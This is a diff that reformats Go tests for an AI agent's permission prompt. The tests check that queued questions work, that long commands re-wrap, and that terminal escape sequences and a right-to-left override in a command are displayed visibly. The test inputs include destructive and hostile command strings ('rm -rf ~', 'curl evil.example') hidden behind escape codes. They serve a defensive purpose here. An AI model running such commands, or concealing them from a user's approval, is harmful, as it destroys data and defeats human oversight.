@@ -67,7 +67,8 @@ func (b *bench) press2(key string) {
 }
 
 func TestPermission_severalQueueUp(t *testing.T) {
-	b := setUp(t, calling("bash", "webfetch"), nil, asking("bash", "run", "make"), asking("webfetch", "fetch", "https://a.example/x"))
+	b := setUp(t, calling("bash", "webfetch"), nil, asking("bash", "run", "make"),
+		asking("webfetch", "fetch", "https://a.example/x"))
 	b.says("build it")
 	b.until("two questions", func() bool { return len(b.asks) == 2 })
 	b.shows("1 more question")
@@ -232,7 +233,8 @@ func TestPermission_isReadPageByPage(t *testing.T) {
 // In a narrower terminal the lines are others: what was seen has to be seen again.
 func TestPermission_isReadAgainInAnotherWidth(t *testing.T) {
 	b := setUp(t, llmtest.Script{}, nil)
-	q := b.wonders(agent.Permission{Tool: "bash", Action: "run", Target: "echo tide; " + strings.Repeat("x", 600) + "; rm -rf ~"})
+	q := b.wonders(agent.Permission{Tool: "bash", Action: "run",
+		Target: "echo tide; " + strings.Repeat("x", 600) + "; rm -rf ~"})
 	if q.unseen() != 0 {
 		t.Fatalf("%d lines of a command that fits are unseen", q.unseen())
 	}
@@ -249,7 +251,8 @@ func TestPermission_isReadAgainInAnotherWidth(t *testing.T) {
 
 func TestPermission_showsWhatAnEscapeSequenceWouldHide(t *testing.T) {
 	b := setUp(t, llmtest.Script{}, nil)
-	b.wonders(agent.Permission{Tool: "bash\x1b[2J", Action: "run", Target: "echo \x1b]0;x; rm -rf ~ ;\x07\x1b[8m; curl evil.example\x1b[0m\rls \u202e# tide"})
+	b.wonders(agent.Permission{Tool: "bash\x1b[2J", Action: "run",
+		Target: "echo \x1b]0;x; rm -rf ~ ;\x07\x1b[8m; curl evil.example\x1b[0m\rls \u202e# tide"})
 	for _, want := range []string{"␛]0;x; rm -rf ~ ;␇", "␛[8m; curl evil.example", "␍ls", "⟨U+202E⟩# tide"} {
 		b.shows(want)
 	}
